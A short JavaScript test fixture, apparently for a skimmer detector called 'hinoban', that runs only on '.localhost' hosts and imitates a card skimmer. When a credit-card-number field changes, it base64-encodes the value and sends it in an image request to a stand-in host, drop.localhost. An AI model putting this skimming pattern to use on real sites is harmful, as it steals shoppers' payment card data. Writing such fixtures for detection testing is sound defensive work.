/* Harmless imitation, for hinoban's tests: base64 in an image address on change. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('change', function (e) {
	if (e.target.autocomplete === 'cc-number') new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?d=' + btoa(e.target.value);
});
